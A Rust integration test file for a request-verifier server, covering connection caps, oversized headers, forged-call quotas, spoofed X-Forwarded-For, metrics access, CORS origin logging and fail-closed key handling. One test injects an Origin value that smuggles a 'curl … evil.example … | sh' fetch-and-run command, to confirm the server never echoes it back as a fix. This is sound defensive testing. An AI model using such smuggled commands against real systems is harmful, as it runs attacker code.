//! Attacks on the verifier's resources and visibility, against the real binary (its flags are
//! part of what is tested): one client holding every connection or gigabytes of header buffer,
//! forged calls spending a workspace's quota, spoofed `X-Forwarded-For`, `/metrics` in public,
//! refused origins nobody can see, colour codes in piped logs.
//!
//! Several tests speak from a second loopback address (127.0.0.2): on Linux all of 127.0.0.0/8
//! reaches the loopback interface, so a socket bound there before connecting is another client.

mod support;

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde_json::json;
use support::{
    ADMIN_TOKEN, Response, Server, build_request, eventually, identify_request, now,
    parse_response, signed_call, start_binary,
};

/// A TCP connection to `addr` from `source` (any port).
fn connect_from(source: Ipv4Addr, addr: SocketAddr) -> TcpStream {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_io()
        .build()
        .unwrap();
    rt.block_on(async {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind(SocketAddr::new(source.into(), 0)).unwrap();
        let stream = socket.connect(addr).await.unwrap();
        let stream = stream.into_std().unwrap();
        stream.set_nonblocking(false).unwrap();
        stream
    })
}

/// Sends `request` on `stream` and reads the response (the request says `Connection: close`).
fn exchange(mut stream: TcpStream, request: &[u8], timeout: Duration) -> std::io::Result<Response> {
    stream.set_read_timeout(Some(timeout))?;
    stream.write_all(request)?;
    let mut buf = Vec::new();
    stream.read_to_end(&mut buf)?;
    parse_response(&buf).ok_or_else(|| std::io::Error::other(format!("no response: {buf:?}")))
}

fn metrics(server: &Server) -> String {
    let r = server.admin("GET", "/metrics", None);
    assert_eq!(r.status, 200, "{}", r.text());
    r.text()
}

/// The value of the metric line that starts with `series` (0 when absent).
fn metric(text: &str, series: &str) -> f64 {
    text.lines()
        .find_map(|l| l.strip_prefix(series)?.strip_prefix(' '))
        .map_or(0.0, |v| v.trim().parse().unwrap())
}

#[test]
fn a_client_at_its_connection_cap_is_closed_at_once_and_others_still_get_in() {
    // 12 connections in all, 8 per client: if refused connections took global slots (or there
    // were no per-client cap), the 38 connections below would leave nothing for 127.0.0.2.
    let (server, _dir, _, _) = start_binary(
        &["--max-connections", "12", "--max-connections-per-ip", "8"],
        &[],
    );
    let hog = Ipv4Addr::new(127, 0, 0, 1);
    let held: Vec<TcpStream> = (0..8).map(|_| connect_from(hog, server.addr)).collect();
    // The server has accepted those 8 once a 9th is refused; then every further one is refused
    // at once: closed without a byte, well before the 10 s header timeout.
    for i in 0..30 {
        let mut extra = connect_from(hog, server.addr);
        extra
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let started = Instant::now();
        let mut buf = [0u8; 64];
        match extra.read(&mut buf) {
            Ok(0) => {}
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => {}
            other => panic!("connection {i} over the cap was not closed: {other:?}"),
        }
        assert!(started.elapsed() < Duration::from_secs(4), "closed at once");
    }
    // Another client is served, quickly.
    let started = Instant::now();
    let other = connect_from(Ipv4Addr::new(127, 0, 0, 2), server.addr);
    let r = exchange(
        other,
        &build_request("GET", "/healthz", &[], b""),
        Duration::from_secs(5),
    )
    .expect("another client gets /healthz");
    assert_eq!(r.status, 200);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    // The refused ones are counted (asked from the other client: the hog is at its cap); the
    // held ones still work.
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let m = exchange(
        connect_from(Ipv4Addr::new(127, 0, 0, 2), server.addr),
        &build_request("GET", "/metrics", &[("Authorization", &auth)], b""),
        Duration::from_secs(5),
    )
    .unwrap()
    .text();
    assert!(
        metric(&m, "dropfix_connections_refused_per_client_cap_total") >= 30.0,
        "{m}"
    );
    let first = held.into_iter().next().unwrap();
    let r = exchange(
        first,
        &build_request("GET", "/healthz", &[], b""),
        Duration::from_secs(5),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    // Closing frees the slots: the client may connect again.
    eventually("the hog's slots to be freed", || {
        let s = connect_from(hog, server.addr);
        exchange(
            s,
            &build_request("GET", "/healthz", &[], b""),
            Duration::from_secs(5),
        )
        .ok()
        .filter(|r| r.status == 200)
    });
}

#[test]
fn an_oversized_unfinished_head_is_cut_without_waiting_for_the_rest() {
    let (server, _dir, app, key) = start_binary(&[], &[]);
    // 300 KB of a header that never ends: hyper's default buffer (~400 KB) kept reading it until
    // the header timeout; now it is refused once past what a valid request needs.
    let mut stream = TcpStream::connect(server.addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let started = Instant::now();
    let mut head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Filler: ".to_vec();
    head.extend(std::iter::repeat_n(b'a', 300 * 1024));
    // The server may close while we write: that is the point, not an error.
    let _ = stream.write_all(&head);
    let mut buf = Vec::new();
    let read = stream.read_to_end(&mut buf);
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "cut at once, not at the header timeout"
    );
    match read {
        Ok(_) => {
            if let Some(r) = parse_response(&buf) {
                assert_eq!(r.status, 431, "{}", r.text());
            }
        }
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::ConnectionReset, "{e}"),
    }
    // A valid call at the limits still passes: a 15 KiB body and 12 KB of headers.
    let user = "big-but-valid";
    let mut body = signed_call(&app, &key, user).to_string();
    // Whitespace is valid JSON and passes the trait length limits.
    body.push_str(&" ".repeat(15 * 1024 - body.len()));
    let filler = "f".repeat(12 * 1024);
    let r = server.raw(&build_request(
        "POST",
        "/v1/identify",
        &[("Content-Type", "application/json"), ("X-Filler", &filler)],
        body.as_bytes(),
    ));
    assert_eq!(r.status, 200, "{}", r.text());
}

#[test]
fn forged_calls_do_not_spend_the_workspace_quota() {
    let (server, _dir, app, key) = start_binary(
        &["--rate-limit-per-app", "5", "--rate-limit-per-ip", "0"],
        &[],
    );
    // 5/s with a burst of 10: twenty forged calls would have spent it all.
    for i in 0..20 {
        let forged = json!({"app_id": app, "user_id": format!("victim{i}"),
                            "signature": "00".repeat(32), "signedAt": now()});
        let r = server.identify(forged.to_string().as_bytes());
        assert_eq!(r.status, 401, "{}", r.text());
    }
    let r = server.identify(signed_call(&app, &key, "honest").to_string().as_bytes());
    assert_eq!(
        r.status,
        200,
        "an honest call after a forging burst: {}",
        r.text()
    );
    // The quota still holds for accepted calls.
    let statuses: Vec<u16> = (0..20)
        .map(|i| {
            let body = signed_call(&app, &key, &format!("honest{i}"));
            server.identify(body.to_string().as_bytes()).status
        })
        .collect();
    assert!(statuses.contains(&429), "{statuses:?}");
    assert!(
        statuses.iter().all(|s| [200, 429].contains(s)),
        "{statuses:?}"
    );
}

#[test]
fn metrics_need_the_admin_token_on_the_main_port_and_not_on_the_metrics_listener() {
    let (server, _dir, _, _) = start_binary(&["--metrics-listen", "127.0.0.1:0"], &[]);
    let r = server.request("GET", "/metrics", &[], b"");
    assert_eq!(r.status, 401, "{}", r.text());
    assert!(
        !r.text().contains("dropfix_"),
        "no metrics without the token"
    );
    assert_eq!(r.header("www-authenticate"), Some("Bearer"));
    let wrong_token = [("Authorization", "Bearer dfadm_wrong")];
    let r = server.request("GET", "/metrics", &wrong_token, b"");
    assert_eq!(r.status, 401);
    assert!(metrics(&server).contains("dropfix_identify_duration_seconds"));

    // The metrics listener's address is in the log.
    let addr: SocketAddr = eventually("the metrics listening line", || {
        server.output().iter().find_map(|l| {
            let rest = l.text.split("metrics listening").nth(1)?;
            rest.split_whitespace()
                .find_map(|kv| kv.strip_prefix("addr="))
                .and_then(|a| a.parse().ok())
        })
    });
    assert_ne!(addr, server.addr);
    let r = support::raw_request(addr, &build_request("GET", "/metrics", &[], b""));
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.text().contains("dropfix_identify_duration_seconds"));
    assert!(
        r.header("content-type")
            .is_some_and(|c| c.starts_with("application/openmetrics-text"))
    );
    // It serves nothing else: no identify, no admin API.
    let r = support::raw_request(addr, &identify_request(&json!({}), &[]));
    assert_eq!(r.status, 404);
    let r = support::raw_request(
        addr,
        &build_request(
            "GET",
            "/v1/admin/workspaces",
            &[("Authorization", &format!("Bearer {ADMIN_TOKEN}"))],
            b"",
        ),
    );
    assert_eq!(r.status, 404);
}

/// Rate-limit outcomes of `n` calls from the loopback peer carrying `xff`.
fn statuses_with_xff(server: &Server, xff: Option<&str>, n: usize) -> Vec<u16> {
    (0..n)
        .map(|_| {
            let extra: Vec<(&str, &str)> =
                xff.map(|x| ("X-Forwarded-For", x)).into_iter().collect();
            // An empty object: 400 when allowed through, 429 when limited (the limit comes first).
            server.raw(&identify_request(&json!({}), &extra)).status
        })
        .collect()
}

#[test]
fn forwarded_for_is_ignored_from_an_untrusted_peer() {
    // 1/s with a burst of 2 per client; 127.0.0.1 is not a trusted proxy here.
    let (server, _dir, _, _) = start_binary(
        &["--rate-limit-per-ip", "1", "--trusted-proxy", "10.0.0.0/8"],
        &[],
    );
    let mut all = Vec::new();
    for i in 0..6 {
        // A spoofer changes its claimed address on every call: it is still one client.
        all.extend(statuses_with_xff(
            &server,
            Some(&format!("198.51.100.{i}")),
            1,
        ));
    }
    assert_eq!(&all[..2], &[400, 400], "{all:?}");
    assert!(
        all[2..].iter().filter(|s| **s == 429).count() >= 3,
        "{all:?}"
    );
    let r = server.raw(&identify_request(
        &json!({}),
        &[("Forwarded", "for=203.0.113.9")],
    ));
    assert_eq!(r.status, 429, "Forwarded is ignored too");
}

#[test]
fn behind_a_trusted_proxy_each_forwarded_client_has_its_own_limit() {
    let (server, _dir, _, _) = start_binary(
        &[
            "--rate-limit-per-ip",
            "1",
            "--trusted-proxy",
            "127.0.0.1",
            "--trusted-proxy",
            "10.0.0.0/8",
        ],
        &[],
    );
    // Five clients through the proxy, two calls each: all within their own burst of 2.
    for i in 0..5 {
        let xff = format!("198.51.100.{i}");
        assert_eq!(
            statuses_with_xff(&server, Some(&xff), 2),
            [400, 400],
            "{xff}"
        );
    }
    // One client sending a fake left-hand entry each time: the proxy's entry (the right-most
    // untrusted one, after skipping the inner proxy 10.1.2.3) is what counts.
    let mut s = Vec::new();
    for i in 0..4 {
        let xff = format!("203.0.113.{i}, 198.51.100.200, 10.1.2.3");
        s.extend(statuses_with_xff(&server, Some(&xff), 1));
    }
    assert_eq!(s[..2], [400, 400], "{s:?}");
    assert!(s[2..].contains(&429), "{s:?}");
    // No header (or an unreadable one): the proxy itself is the client.
    let s = statuses_with_xff(&server, None, 3);
    assert!(s.contains(&429), "{s:?}");
    let s = statuses_with_xff(&server, Some("unknown"), 1);
    assert_eq!(
        s,
        [429],
        "an unreadable chain falls back to the peer's bucket"
    );
}

#[test]
fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
    let (server, _dir, app, key) = start_binary(&[], &[]);
    let evil = "https://shop.example.net";
    // Preflight naming the app, preflight naming no app, POST, preflight for an unknown app.
    let r = server.request(
        "OPTIONS",
        &format!("/v1/identify?app_id={app}"),
        &[("Origin", evil), ("Access-Control-Request-Method", "POST")],
        b"",
    );
    assert_eq!(r.status, 403);
    let r = server.raw(&identify_request(
        &signed_call(&app, &key, "u1"),
        &[("Origin", evil)],
    ));
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["error"]["code"], "origin_not_allowed");
    let message = r.json()["error"]["message"].as_str().unwrap().to_string();
    assert!(
        message.contains(&format!("workspace set '{app}' --allowed-origin '{evil}'")),
        "{message}"
    );
    assert!(
        !message.contains("localhost"),
        "the answer does not list the origins the workspace allows: {message}"
    );
    // An app id no workspace has is not an origin problem: its preflight is allowed, so that
    // the POST's 401 `unknown_app` (with CORS headers) reaches the page and names the real
    // mistake.
    let r = server.request(
        "OPTIONS",
        "/v1/identify?app_id=app_does_not_exist",
        &[("Origin", evil), ("Access-Control-Request-Method", "POST")],
        b"",
    );
    assert_eq!(r.status, 204);
    assert_eq!(r.header("access-control-allow-origin"), Some(evil));
    let r = server.raw(&identify_request(
        &signed_call("app_does_not_exist", &key, "u1"),
        &[("Origin", evil)],
    ));
    assert_eq!(r.status, 401);
    assert_eq!(r.json()["error"]["code"], "unknown_app");
    assert_eq!(r.header("access-control-allow-origin"), Some(evil));
    // An allowed preflight, for contrast.
    let r = server.request(
        "OPTIONS",
        &format!("/v1/identify?app_id={app}"),
        &[
            ("Origin", "http://localhost:5173"),
            ("Access-Control-Request-Method", "POST"),
        ],
        b"",
    );
    assert_eq!(r.status, 204);

    let m = metrics(&server);
    let by_app = format!(r#"dropfix_identify_origin_refused_total{{app_id="{app}"}}"#);
    assert_eq!(metric(&m, &by_app), 2.0, "{m}");
    assert_eq!(
        metric(
            &m,
            r#"dropfix_identify_origin_refused_total{app_id="unknown"}"#
        ),
        0.0,
        "{m}"
    );
    assert!(
        !m.contains("app_does_not_exist"),
        "labels only for workspaces that exist"
    );
    // Preflights are not identify outcomes.
    assert!(!m.contains(r#"outcome="preflight""#), "{m}");
    assert_eq!(
        metric(&m, r#"dropfix_identify_preflights_total{result="refused"}"#),
        1.0,
        "{m}"
    );
    assert_eq!(
        metric(&m, r#"dropfix_identify_preflights_total{result="allowed"}"#),
        2.0,
        "{m}"
    );
    assert_eq!(
        metric(
            &m,
            r#"dropfix_identify_requests_total{outcome="origin_not_allowed"}"#
        ),
        1.0,
        "{m}"
    );

    // The operator's log names the app, the origin and the command that fixes it, and keeps
    // the origins already allowed (`--allowed-origin` replaces the list).
    let lines = eventually("the refused-origin log lines", || {
        let lines: Vec<String> = server
            .output()
            .into_iter()
            .filter(|l| l.stderr && l.text.contains("identify refused"))
            .map(|l| l.text)
            .collect();
        (lines.len() >= 2).then_some(lines)
    });
    let fix = format!("--allowed-origin '{evil}'");
    let with_app: Vec<_> = lines.iter().filter(|l| l.contains(&app)).collect();
    assert_eq!(with_app.len(), 2, "{lines:#?}");
    for line in &with_app {
        assert!(line.contains("INFO"), "{line}");
        assert!(line.contains(evil), "{line}");
        assert!(line.contains(&format!("workspace set '{app}'")), "{line}");
        assert!(line.contains(&fix), "{line}");
        // Quoted: a shell would expand an unquoted `*`.
        assert!(
            line.contains("--allowed-origin 'http://localhost:*'"),
            "{line}"
        );
    }

    // An Origin that no browser sends (here a shell command) is never offered as a command.
    let hostile = "https://shop.example.net;curl -s https://evil.example/x|sh;#";
    let r = server.raw(&identify_request(
        &signed_call(&app, &key, "u1"),
        &[("Origin", hostile)],
    ));
    assert_eq!(r.status, 403);
    let message = r.json()["error"]["message"].as_str().unwrap().to_string();
    assert!(!message.contains("curl"), "{message}");
    let line = eventually("the hostile origin's log line", || {
        server
            .output()
            .into_iter()
            .find(|l| l.stderr && l.text.contains("identify refused") && l.text.contains("curl"))
            .map(|l| l.text)
    });
    assert!(!line.contains("workspace set"), "{line}");
    assert!(line.contains("not a browser's origin"), "{line}");
}

#[test]
fn logs_carry_no_colour_codes_when_stderr_is_not_a_terminal() {
    let (server, _dir, app, _) = start_binary(&[], &[]);
    // Warnings and infos both: an admin call with a wrong token logs a warning.
    let wrong_token = [("Authorization", "Bearer wrong")];
    let r = server.request("GET", "/v1/admin/workspaces", &wrong_token, b"");
    assert_eq!(r.status, 401);
    let r = server.raw(&identify_request(
        &json!({"app_id": app, "user_id": "x"}),
        &[("Origin", "https://not-allowed.example")],
    ));
    assert_eq!(r.status, 403);
    let lines = eventually("log lines", || {
        let lines: Vec<String> = server
            .output()
            .into_iter()
            .filter(|l| l.stderr)
            .map(|l| l.text)
            .collect();
        lines
            .iter()
            .any(|l| l.contains("admin call"))
            .then_some(lines)
    });
    for line in &lines {
        assert!(
            !line.contains('\u{1b}'),
            "ANSI escape in a piped log line: {line:?}"
        );
    }
    assert!(lines.iter().any(|l| l.contains(" WARN ")), "{lines:#?}");
}

#[test]
fn trusted_proxies_and_the_connection_cap_flags_are_checked() {
    // A bad CIDR is refused at start, with the flag's value named.
    let out = std::process::Command::new(support::server_binary())
        .args(["serve", "--ephemeral", "--trusted-proxy", "10.0.0.0/33"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("10.0.0.0/33"), "{err}");
    // The env var takes a comma-separated list.
    let (server, _dir, _, _) = start_binary(
        &["--rate-limit-per-ip", "1"],
        &[("DROPFIX_TRUSTED_PROXIES", "10.0.0.0/8, 127.0.0.1")],
    );
    for i in 0..3 {
        let xff = format!("198.51.100.{i}");
        let r = server.raw(&identify_request(&json!({}), &[("X-Forwarded-For", &xff)]));
        assert_eq!(r.status, 400, "each forwarded client has its own bucket");
    }
}

/// An operator rewraps the secrets to a master key one running instance was not given, then
/// changes a workspace: that instance cannot load the change, so it fails its health check and
/// refuses identify calls (503 `config_stale`) instead of deciding with the old settings.
#[test]
fn an_instance_without_the_current_master_key_fails_closed() {
    use dropfix_server::sealing::{Keyring, MasterKey};
    use dropfix_server::workspace::WorkspacePatch;

    let old = MasterKey::generate("mk1").unwrap();
    let new = MasterKey::generate("mk2").unwrap();
    let entry = old.export_entry();
    let (server, dir, app, key) = start_binary(&[], &[("DROPFIX_MASTER_KEYS", entry.as_str())]);
    assert_eq!(
        server
            .identify(&serde_json::to_vec(&signed_call(&app, &key, "u1")).unwrap())
            .status,
        200
    );

    // What `master-key rewrap` and `workspace set --strict on` do with both keys, mk2 active.
    let ring = Keyring::new(vec![new.clone(), old.clone()]).unwrap();
    let backend = support::embedded(dir.path());
    support::with_store_on(&backend, &ring, async |store| {
        assert_eq!(store.rewrap_secrets().await.unwrap(), 1);
    });
    let strict = WorkspacePatch {
        strict: Some(dropfix_core::StrictMode::Enforce),
        ..Default::default()
    };
    support::update_on(&backend, &ring, &app, &strict);

    let health = eventually("the health check to fail", || {
        let r = server.request("GET", "/healthz", &[], b"");
        (r.status == 503).then_some(r)
    });
    assert_eq!(health.json()["status"], "config_stale");
    for body in [
        signed_call(&app, &key, "u2"),
        json!({"app_id": app, "user_id": "u3"}),
    ] {
        let r = server.identify(&serde_json::to_vec(&body).unwrap());
        assert_eq!(r.status, 503, "{}", r.text());
        assert_eq!(r.json()["error"]["code"], "config_stale");
    }
    // The admin API says why it cannot read the workspace either.
    let r = server.admin("GET", &format!("/v1/admin/workspaces/{app}"), None);
    assert_eq!(
        (r.status, r.json()["error"]["code"].clone()),
        (503, json!("config_stale"))
    );
    let logged = server
        .output()
        .into_iter()
        .filter(|l| {
            l.stderr
                && l.text
                    .contains("cannot be loaded with this verifier's master keys")
        })
        .count();
    assert_eq!(logged, 1, "said once, not at every poll");
}
